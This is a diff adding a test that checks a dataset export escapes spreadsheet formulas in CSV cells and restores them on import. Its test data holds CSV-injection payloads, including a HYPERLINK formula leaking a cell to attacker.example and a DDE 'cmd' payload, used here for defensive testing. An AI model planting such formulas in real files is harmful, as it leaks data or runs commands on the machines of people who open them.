@@ -218,3 +218,74 @@ def test_an_export_for_a_non_member_is_404(
     client.force_login(make_member(Role.ADMIN, target=other))
 
     assert export(client, version, format="csv").status_code == 404
+
+
+# OWASP's CSV injection examples, plus the prefixes it names (tab, carriage return) and a cell
+# that already starts with the guard's apostrophe before a formula character.
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1, "Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1",
+    "-1",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+]
+# Formula characters later in the cell, or an apostrophe before ordinary text, are harmless.
+HARMLESS = ["1-1", "a=b", "user@example.com", "'tis the season", ""]
+
+
+def test_csv_export_prefixes_cells_a_spreadsheet_would_run_as_formulas(
+    client: Client, project: Project, lead: User
+) -> None:
+    dataset = Dataset.objects.create(project=project, name="formulas")
+    values = FORMULAS + HARMLESS
+    for n, value in enumerate(values):
+        messages = [
+            {"role": "system", "content": value or "plain"},
+            {"role": "user", "content": f"{value} #{n}" if value[:1] in "=+-@\t\r'" else f"q{n}"},
+            {"role": "assistant", "content": value or "empty"},
+        ]
+        Example.objects.create(
+            dataset=dataset,
+            messages=messages,
+            status=ExampleStatus.APPROVED,
+            metadata={"note": value, "=cmd|' /C calc'!A0": "x"},
+        )
+    version = dataset_version_freeze(dataset=dataset, user=lead, validation_fraction=0.2)
+    client.force_login(lead)
+
+    text = body(export(client, version, format="csv"))
+    rows = list(csv.reader(io.StringIO(text)))
+
+    assert rows[0][-2:] == ["'=cmd|' /C calc'!A0", "note"]
+    by_answer = {row[1]: row for row in rows[1:]}
+    for value in FORMULAS:
+        row = by_answer["'" + value]
+        assert row[2] == "'" + value  # system
+        assert row[-1] == "'" + value  # metadata
+        assert row[0].startswith("'" + value)  # input
+    for value in filter(None, HARMLESS):
+        assert by_answer[value][2] == value
+        assert by_answer[value][-1] == value
+    # No cell of the file starts with a formula character.
+    assert not [
+        cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+    ]
+
+    # The file imports back with the original text: the import takes the guard off.
+    mapping = CsvMapping(
+        input_column="input",
+        output_column="ideal_output",
+        system_column="system",
+        metadata_columns=("note", "=cmd|' /C calc'!A0"),
+    )
+    report = parse_bytes(
+        text.encode(), filename="x.csv", options=ImportOptions(format="csv", csv_mapping=mapping)
+    )
+    assert report.errors == []
+    imported = {tuple(m["content"] for m in e.messages) for e in report.examples}
+    originals = {tuple(m["content"] for m in item.messages) for item in version.items.all()}
+    assert imported == originals
+    assert {e.metadata["note"] for e in report.examples} == set(values)
+    assert {e.metadata["=cmd|' /C calc'!A0"] for e in report.examples} == {"x"}
